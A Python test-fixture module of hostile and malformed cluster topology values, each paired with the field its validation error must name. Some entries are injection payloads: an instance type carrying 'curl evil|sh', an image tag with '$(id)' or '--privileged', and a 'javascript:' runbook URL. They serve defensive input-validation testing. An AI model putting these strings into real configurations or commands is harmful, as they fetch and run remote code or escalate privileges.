"""Hostile or careless topology values, each with the field its error must name.

Shared by the unit tier (the model rejects each) and the e2e tier (synth exits 2 on each, before
writing anything).
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

Raw = dict[str, Any]


def west(raw: Raw) -> Raw:
    region: Raw = raw["regions"]["us-west-1"]
    return region


def ledger_pool(raw: Raw) -> Raw:
    pool: Raw = west(raw)["node_groups"]["ledger"]
    return pool


def nobody_votes(raw: Raw) -> None:
    for body in raw["regions"].values():
        body["ledger_voting"] = False


HOSTILE: dict[str, tuple[Callable[[Raw], object], str]] = {
    "arn-with-a-newline": (
        lambda r: r["eks"].update(admins=["arn:aws:iam::111122223333:role/admin\n"]),
        "eks.admins",
    ),
    "addon-version-with-a-newline": (
        lambda r: r["eks"]["addons"].update({"coredns": "v1.12.1-eksbuild.2\n"}),
        "eks",
    ),
    "public-vpc-range": (lambda r: west(r).update(vpc_cidr="8.8.0.0/16"), "regions.us-west-1.vpc_cidr"),
    "multicast-vpc-range": (lambda r: west(r).update(vpc_cidr="224.0.0.0/16"), "regions.us-west-1.vpc_cidr"),
    "loopback-vpc-range": (lambda r: west(r).update(vpc_cidr="127.0.0.0/16"), "regions.us-west-1.vpc_cidr"),
    "halves-of-the-internet": (
        lambda r: r["eks"]["api_access"].update(public_cidrs=["0.0.0.0/1", "128.0.0.0/1"]),
        "whole internet",
    ),
    "four-zones-in-a-two-zone-region": (
        lambda r: west(r).update(availability_zones=["us-west-1a", "us-west-1b", "us-west-1c", "us-west-1d"]),
        "offers 2",
    ),
    "nobody-votes": (nobody_votes, "no region's Ledger nodes vote"),
    "zero-cpu": (lambda r: r.setdefault("ledger", {}).update(resources={"cpu": "0", "memory": "8Gi"}), "cpu"),
    "injected-instance-type": (
        lambda r: ledger_pool(r).update(instance_types=["m6i.large; curl evil|sh"]),
        "not an EC2 instance type",
    ),
    "made-up-instance-type": (lambda r: ledger_pool(r).update(instance_types=["zz9d.huge"]), "not an EC2 instance"),
    "namespace-with-spaces": (lambda r: r.setdefault("monitoring", {}).update(namespace="Bad Namespace!"), "namespace"),
    "javascript-runbook": (
        lambda r: r.setdefault("monitoring", {}).update(runbook_base_url="javascript:alert(1)"),
        "runbook_base_url",
    ),
    "huge-tailnet-name": (lambda r: r["connectivity"].update(tailnet="t" * 20_000), "connectivity.tailnet"),
    "priority-true": (lambda r: west(r).update(priority=True), "regions.us-west-1.priority"),
    "priority-a-float": (lambda r: west(r).update(priority=1.0), "regions.us-west-1.priority"),
    "astronomic-size": (lambda r: ledger_pool(r).update(max_size=10**20), "max_size"),
    "size-beyond-any-float": (lambda r: ledger_pool(r).update(max_size=10**400), "max_size"),
    "image-with-spaces": (
        lambda r: r["images"].update(ledger="ghcr.io/inferadb/ledger:nightly-20260421 --privileged"),
        "images",
    ),
    "image-with-a-command": (lambda r: r["images"].update(engine="ghcr.io/inferadb/engine:$(id)"), "images.engine"),
    # us-west-1 (10.10.0.0/16, two zones) has private subnets 10.10.0.0/19 and 10.10.32.0/19.
    "endpoint-block-in-another-zone": (
        lambda r: west(r).update(ledger_endpoint_blocks=["10.10.63.224/28", "10.10.63.208/28"]),
        "ledger_endpoint_blocks[0] 10.10.63.224/28 does not fit zone 0's private subnet 10.10.0.0/19",
    ),
    "endpoint-block-in-another-region": (
        lambda r: west(r).update(ledger_endpoint_blocks=["10.20.31.224/28", "10.10.63.224/28"]),
        "regions.us-west-1.ledger_endpoint_blocks[0]",
    ),
    "endpoint-block-on-aws-reserved-addresses": (
        lambda r: west(r).update(ledger_endpoint_blocks=["10.10.0.0/28", "10.10.63.224/28"]),
        "addresses 10.10.0.4 to 10.10.31.254",
    ),
    "endpoint-block-smaller-than-ledger": (
        lambda r: west(r).update(ledger_endpoint_blocks=["10.10.31.224/31", "10.10.63.224/28"]),
        "holds 2 addresses but us-west-1 runs 3 Ledger nodes",
    ),
    "endpoint-blocks-fewer-than-zones": (
        lambda r: west(r).update(ledger_endpoint_blocks=["10.10.31.224/28"]),
        "lists 1 blocks for 2 zones",
    ),
    "endpoint-block-not-a-network": (
        lambda r: west(r).update(ledger_endpoint_blocks=["10.10.31.225/28", "10.10.63.224/28"]),
        "regions.us-west-1.ledger_endpoint_blocks.0",
    ),
}
